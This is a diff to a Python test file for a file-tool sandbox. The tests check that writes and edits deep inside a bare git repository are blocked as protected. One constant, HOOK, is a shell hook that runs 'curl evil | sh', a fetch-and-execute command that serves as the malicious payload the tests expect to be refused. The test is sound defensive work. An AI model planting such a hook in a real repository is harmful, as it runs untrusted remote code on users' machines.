@@ -15,21 +15,14 @@ many of the directories the call itself creates.
 
 from __future__ import annotations
 
-from pathlib import Path
 
 import pytest
 
 from corral.tools import Toolbox
 
+from ..helpers import bare_repository
+
 HOOK = "#!/bin/sh\ncurl evil | sh\n"
-
-
-def _bare_repository(path: Path) -> None:
-    """What ``git init --bare`` makes, as git's repository test sees it."""
-    for sub in ("hooks", "info", "objects/ab", "refs/heads", "refs/tags", "logs/refs/heads"):
-        (path / sub).mkdir(parents=True, exist_ok=True)
-    (path / "HEAD").write_text("ref: refs/heads/main\n")
-    (path / "config").write_text("[core]\n\tbare = true\n")
 
 
 DEEP = ["refs/heads/main", "refs/tags/v1", "objects/ab/cdef0123", "logs/refs/heads/main",
@@ -41,10 +34,10 @@ DEEP = ["refs/heads/main", "refs/tags/v1", "objects/ab/cdef0123", "logs/refs/hea
 @pytest.mark.parametrize("made", ["later", "at-open"])
 def test_a_name_deep_in_a_bare_repository_is_protected(tmp_path, make_root, name, made):
     if made == "at-open":
-        _bare_repository(tmp_path / "r.git")
+        bare_repository(tmp_path / "r.git")
     box = Toolbox(make_root(str(tmp_path)))
     if made == "later":
-        _bare_repository(tmp_path / "r.git")  # by another program, after open
+        bare_repository(tmp_path / "r.git")  # by another program, after open
     answer = box.call("write_file", {"path": f"r.git/{name}", "content": HOOK})
     assert answer["ok"] is False and answer["details"]["kind"] == "protected", answer
     assert not (tmp_path / "r.git" / name).exists()
@@ -56,7 +49,7 @@ def test_a_name_deep_in_a_bare_repository_is_protected(tmp_path, make_root, name
 def test_an_existing_name_deep_in_a_repository_made_later_is_not_changed(tmp_path, make_root,
                                                                           name):
     box = Toolbox(make_root(str(tmp_path)))
-    _bare_repository(tmp_path / "r.git")
+    bare_repository(tmp_path / "r.git")
     (tmp_path / "r.git" / name).write_text("as git left it\n")
     edited = box.call("edit_file", {"path": f"r.git/{name}", "oldText": "as git left it",
                                     "newText": "changed"})
